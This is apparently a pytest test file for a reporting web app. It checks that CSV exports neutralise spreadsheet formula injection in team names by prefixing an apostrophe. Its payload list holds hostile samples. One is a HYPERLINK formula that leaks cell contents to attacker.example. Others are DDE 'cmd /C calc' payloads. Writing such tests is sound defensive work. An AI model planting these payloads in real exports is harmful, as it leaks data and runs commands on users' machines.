"""CSV formula injection: every cell the product writes to a CSV that a spreadsheet would run is made text first.

Team names on compliments are typed by the public and by staff, and they reach the report CSV; a cell that begins
with =, +, -, @, a tab or a carriage return gets a leading ' (OWASP's advice), so a spreadsheet shows it as typed.
"""
from __future__ import annotations

import csv
import io
from datetime import datetime, timezone

import pytest

from processes.csv_export import csv_cell, csv_text
from tests import reports_seed as seed
from web import create_app

PAYLOADS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Open")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1", "\u00a0@SUM(A1)"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_a_spreadsheet_would_read_as_a_formula_is_written_as_text(payload):
    assert csv_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Leeds employability", "12", "-3", "+4", "12.5", "-0.5%", "", None, 7, 2.5,
                                   "a=b", "x-y", "name@example.org"])
def test_plain_words_and_numbers_are_written_as_they_are(value):
    assert csv_cell(value) == ("" if value is None else str(value))


def test_csv_text_neutralises_every_cell_and_keeps_the_rows_readable():
    text = csv_text([["Team", "Count"], ['=1+1', 3], ["Ok, with comma", '"quoted"']])
    assert list(csv.reader(io.StringIO(text))) == [["Team", "Count"], ["'=1+1", "3"],
                                                    ["Ok, with comma", '"quoted"']]


@pytest.fixture
def reports(container, clock):
    clock.set(seed.AS_OF)
    received = datetime(2025, 6, 10, 10, tzinfo=timezone.utc)
    cases = [seed.SeedCase(f"IA-2025-{n:06d}", "IA", "compliment", "web", received, status="closed",
                           outcome="recorded", closed_at=received, team=team)
             for n, team in enumerate(PAYLOADS, 1)]
    seed.insert(container, cases)
    seed.add_user(container, "ia_team", {"IA": ["complaints_team"]})
    return create_app(container, TESTING=True, WTF_CSRF_ENABLED=False, RATELIMIT_ENABLED=False)


def test_the_report_csv_writes_team_names_that_look_like_formulas_as_text(reports):
    client = seed.sign_in(reports.test_client(), "ia_team")
    response = client.get("/reports/report.csv?scope=IA&period=2025-06")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))
    teams = {row[1] for row in rows if row and row[0] == "Compliments received, by team"}
    assert {"'" + payload for payload in PAYLOADS} <= teams
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.lstrip(" \u00a0").startswith(("=", "+", "@", "\t", "\r"))]
    assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit()]
    page = client.get("/reports/?scope=IA&period=2025-06").get_data(as_text=True)
    assert "@SUM(1+1)" in page and "&#39;@SUM" not in page  # the page itself shows what was typed
